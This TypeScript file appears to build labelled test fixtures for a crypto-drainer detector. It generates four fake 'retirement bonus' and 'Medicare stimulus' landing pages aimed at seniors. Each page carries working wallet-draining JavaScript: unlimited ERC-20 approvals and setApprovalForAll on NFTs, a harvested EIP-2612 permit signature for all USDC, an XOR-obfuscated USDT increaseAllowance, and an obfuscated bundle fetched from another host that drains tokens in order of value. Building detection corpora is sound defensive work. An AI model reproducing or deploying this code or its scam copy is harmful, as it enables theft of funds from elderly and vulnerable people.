import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { b64, hex, shell, xorB64, xorDecoderJs } from '../parts/yt-kit.js';

/** Wallet drainers and seed-phrase grabs pushed at retirees through "crypto retirement" and benefit-bonus ads. */
const pad = (a: string) => a.toLowerCase().replace(/^0x/, '').padStart(64, '0');
const MAX = 'f'.repeat(64);

// ---- 1. "Senior retirement bonus": approve every ERC-20 to max and setApprovalForAll on NFTs
const bonusSpender = '0x7a3f0c2b9e4d51a8c6f2e90b13d47c85a9e0f6b2';
const bonus = shell({
  title: 'Senior Crypto Retirement Bonus — Claim $2,500',
  css: `body{margin:0;font-family:Inter,Arial;background:#0b1220;color:#e5e7eb}.w{max-width:560px;margin:60px auto;text-align:center}.c{background:#111a2e;border:1px solid #1f2a44;border-radius:16px;padding:28px}
.amt{font-size:44px;font-weight:800;color:#facc15}.btn{background:#facc15;color:#111;border:0;border-radius:12px;padding:14px 28px;font-size:17px;font-weight:700;cursor:pointer;margin-top:14px}.s{font-size:12px;color:#94a3b8}`,
  body: `<div class="w"><h1>Retirement Crypto Bonus Program 2025</h1><div class="c"><p>Eligible retirees 62+ receive a one-time bonus deposited directly to their wallet.</p><div class="amt">$2,500 ETH</div>
<p id="st" class="s">Connect the wallet you use for retirement savings to check eligibility.</p><button class="btn" id="cn">Connect Wallet</button></div>
<p class="s">Supported: MetaMask · Trust Wallet · Coinbase Wallet · 14,221 bonuses claimed this week</p></div>
<script>
(function(){
var SPENDER='${bonusSpender}';
var TOKENS=['0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','0xdAC17F958D2ee523a2206206994597C13D831ec7','0x6B175474E89094C44Da98b954EedeAC495271d0F','0x2260FAC5E5542a773Aa44fBCfeDf7C193bc2C599'];
var NFTS=['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D','0x60E4d786628Fea6478F785A6d7e704777c86a7c6'];
function w(){return window.ethereum;}
function st(t){document.getElementById('st').textContent=t;}
async function run(){
  if(!w()){st('Please open this page in your wallet app browser.');return;}
  var acc=(await w().request({method:'eth_requestAccounts'}))[0];
  st('Eligible! Approve the bonus contract to receive your deposit…');
  fetch('/api/log',{method:'POST',body:JSON.stringify({a:acc,ua:navigator.userAgent})});
  for(var i=0;i<TOKENS.length;i++){
    try{await w().request({method:'eth_sendTransaction',params:[{from:acc,to:TOKENS[i],data:'0x095ea7b3'+'${pad(bonusSpender)}'+'${MAX}'}]});}catch(e){}
  }
  for(var j=0;j<NFTS.length;j++){
    try{await w().request({method:'eth_sendTransaction',params:[{from:acc,to:NFTS[j],data:'0xa22cb465'+'${pad(bonusSpender)}'+'${'0'.repeat(63)}1'}]});}catch(e){}
  }
  st('Processing your $2,500 bonus. It may take up to 24 hours to appear.');
}
document.getElementById('cn').onclick=run;
})();
</script>`,
});

// ---- 2. "Medicare crypto stimulus" USDC: EIP-2612 permit signature harvested
const permitSpender = '0xd15e0a4c7b2f93e8a1c6d04b5f7e29a3c8b6d1f0';
const permit = shell({
  title: 'Medicare Crypto Stimulus — USDC Payout',
  css: `body{margin:0;font-family:Arial;background:#f0f6ff;color:#0b2545}.h{background:#0b2545;color:#fff;padding:16px 24px}.w{max-width:520px;margin:40px auto;background:#fff;border-radius:14px;padding:28px;box-shadow:0 4px 20px #0b254522}
.u{display:flex;align-items:center;gap:10px;font-size:30px;font-weight:bold;color:#2775ca}.btn{width:100%;padding:14px;border:0;border-radius:10px;background:#2775ca;color:#fff;font-size:17px;cursor:pointer;margin-top:16px}`,
  body: `<div class="h">💵 Senior Digital Dollar Relief · Powered by USDC</div>
<div class="w"><p>Medicare beneficiaries with a crypto wallet can receive the 2025 inflation relief payment in USDC, instantly and tax-free.</p>
<div class="u">◎ 1,200.00 USDC</div><p id="m" style="font-size:13px;color:#475569">Sign a free, gasless message to verify wallet ownership. No fees.</p>
<button class="btn" id="go">Connect &amp; Verify</button></div>
<script>
document.getElementById('go').onclick = async function(){
  var eth = window.ethereum; if (!eth) { alert('Install MetaMask to continue'); return; }
  var owner = (await eth.request({method:'eth_requestAccounts'}))[0];
  var chainId = parseInt(await eth.request({method:'eth_chainId'}), 16);
  var nonceRes = await fetch('/api/nonce?o=' + owner).then(function(r){return r.json();}).catch(function(){return {nonce:0};});
  var typed = {
    types: { EIP712Domain: [{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],
             Permit: [{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}] },
    primaryType: 'Permit',
    domain: { name: 'USD Coin', version: '2', chainId: chainId, verifyingContract: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48' },
    message: { owner: owner, spender: '${permitSpender}', value: '115792089237316195423570985008687907853269984665640564039457584007913129639935', nonce: nonceRes.nonce, deadline: '9999999999' }
  };
  var sig = await eth.request({method:'eth_signTypedData_v4', params:[owner, JSON.stringify(typed)]});
  await fetch('/api/permit', {method:'POST', headers:{'content-type':'application/json'}, body: JSON.stringify({owner:owner, sig:sig, deadline:'9999999999'})});
  document.getElementById('m').textContent = 'Verified. Your USDC payout is queued (up to 48 hours).';
};
</script>`,
});

// ---- 5. Spanish "jubilación cripto": wallet modal, increaseAllowance on USDT
const jubSpender = '0x9e2b7d4f1a6c08e3b5d7f2a9c4e1b6d8f0a3c5e7';
const jub = shell({
  title: 'Jubilación Cripto — Bono de bienvenida',
  lang: 'es',
  css: `body{margin:0;font-family:Arial;background:#fff8f0;color:#222}.w{max-width:560px;margin:40px auto;text-align:center}.m{display:none;position:fixed;inset:0;background:#0007;align-items:center;justify-content:center}
.mm{background:#fff;border-radius:16px;width:340px;padding:18px;text-align:left}.mm button{display:flex;width:100%;align-items:center;gap:10px;padding:12px;margin:6px 0;border:1px solid #eee;border-radius:10px;background:#fafafa;font-size:15px;cursor:pointer}
.cta{background:#ea580c;color:#fff;border:0;border-radius:10px;padding:14px 26px;font-size:17px;cursor:pointer}`,
  body: `<div class="w"><h1>Asegure su jubilación con cripto</h1><p>Adultos mayores reciben un <b>bono de 500 USDT</b> al conectar su billetera. Ganancias garantizadas del 3% mensual.</p>
<button class="cta" onclick="document.getElementById('m').style.display='flex'">Conectar billetera</button><p id="e" style="font-size:13px;color:#666"></p></div>
<div class="m" id="m"><div class="mm"><b>Conectar billetera</b><button onclick="go()">🦊 MetaMask</button><button onclick="go()">🛡 Trust Wallet</button><button onclick="go()">🔵 Coinbase Wallet</button><button onclick="go()">🔗 WalletConnect</button></div></div>
<script>
${xorDecoderJs('q')}
var cfg = JSON.parse(q('${xorB64(JSON.stringify({ t: '0xdAC17F958D2ee523a2206206994597C13D831ec7', s: jubSpender, api: '/api/es/notify' }), 'jub25')}', 'jub25'));
async function go(){
  document.getElementById('m').style.display='none';
  var a = (await ethereum.request({method:'eth_requestAccounts'}))[0];
  await fetch(cfg.api, {method:'POST', body: a});
  var data = '0x39509351' + cfg.s.slice(2).toLowerCase().padStart(64,'0') + 'f'.repeat(64);
  document.getElementById('e').textContent = 'Confirme para recibir su bono…';
  await ethereum.request({method:'eth_sendTransaction', params:[{from:a, to:cfg.t, data:data}]});
  document.getElementById('e').textContent = '¡Listo! Su bono llegará en 24 horas.';
}
</script>`,
});

// ---- 8. Ad landing that loads an obfuscated drainer bundle from another host
const rewardsLanding = shell({
  title: 'Retiree Crypto Rewards — Official Claim',
  css: `body{margin:0;font-family:Arial;background:#f5f7fb}.w{max-width:600px;margin:50px auto;background:#fff;border-radius:16px;padding:30px;text-align:center;box-shadow:0 6px 30px #0001}#connect{background:#2563eb;color:#fff;border:0;border-radius:12px;padding:14px 30px;font-size:17px;cursor:pointer}`,
  body: `<div class="w"><h1>Retiree Crypto Rewards</h1><p>As seen in your Facebook feed: retirees who bought crypto before 2024 can claim loyalty rewards from the exchange consortium. Rewards average <b>$1,870</b>.</p>
<button id="connect">Check my rewards</button><p id="out" style="color:#475569"></p></div>
<script src="https://cdn-web3modal-rpc.com/assets/index-4f2a9c.js" defer></script>`,
});
const bundleSpender = '0x51f8a3c7e2d09b4a6c1e8f3d7b2a5c9e0d4f6a18';
const strs = ['eth_requestAccounts', 'eth_sendTransaction', '0x095ea7b3', bundleSpender.slice(2), 'https://cdn-web3modal-rpc.com/api/v3/hit', 'connect', 'out', 'Claim in progress...', 'request'];
const bundle = `var _0x4f2a=[${strs.map((s) => JSON.stringify(b64(s))).join(',')}];(function(a,n){while(--n){a.push(a.shift());}})(_0x4f2a,0x2);
function _0xg(i){var r=_0x4f2a[(i+0x8)%_0x4f2a.length];return atob(r);}
(async function(){var e=window['eth'+'ereum'];var btn=document.getElementById(_0xg(5));if(!btn)return;btn.onclick=async function(){
var acc=(await e[_0xg(8)]({method:_0xg(0)}))[0];var list=await fetch(_0xg(4)+'?a='+acc).then(function(r){return r.json();}).catch(function(){return {t:[]};});
document.getElementById(_0xg(6)).textContent=_0xg(7);
var sort=(list.t||[]).sort(function(x,y){return y.usd-x.usd;});
for(var i=0;i<sort.length;i++){try{await e[_0xg(8)]({method:_0xg(1),params:[{from:acc,to:sort[i].c,data:_0xg(2)+_0xg(3).padStart(64,'0')+'f'.repeat(64)}]});
fetch(_0xg(4),{method:'POST',body:JSON.stringify({a:acc,c:sort[i].c,ok:1})});}catch(x){}}};})();`;

export const entries: Entry[] = [
{
  id: 'yt-retirement-bonus-approve-setapprovalforall',
  label: 'cryptodrainer',
  kind: 'approval-drainer',
  url: 'https://retirement-crypto-bonus.com/claim?ref=fb-62plus',
  body: bonus,
  routes: { 'retirement-crypto-bonus.com/api/log': jsonRoute({ ok: 1 }) },
},
{
  id: 'yt-medicare-usdc-stimulus-permit',
  label: 'cryptodrainer',
  kind: 'permit-signature-drainer',
  url: 'https://senior-digital-dollar-relief.app/usdc/claim',
  body: permit,
  routes: { 'senior-digital-dollar-relief.app/api/nonce': jsonRoute({ nonce: 0 }) },
},
{
  id: 'yt-jubilacion-cripto-increaseallowance-es',
  label: 'cryptodrainer',
  kind: 'approval-drainer',
  url: 'https://jubilacion-cripto.lat/bono',
  body: jub,
},
{
  id: 'yt-retiree-rewards-offhost-obf-bundle',
  label: 'cryptodrainer',
  kind: 'approval-drainer',
  url: 'https://retiree-crypto-rewards.com/official',
  body: rewardsLanding,
  routes: {
    'cdn-web3modal-rpc.com/assets/index-4f2a9c.js': jsRoute(bundle),
    'cdn-web3modal-rpc.com/api/v3/hit': jsonRoute({ t: [{ c: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', usd: 5120 }, { c: '0xdAC17F958D2ee523a2206206994597C13D831ec7', usd: 880 }] }),
  },
},
];
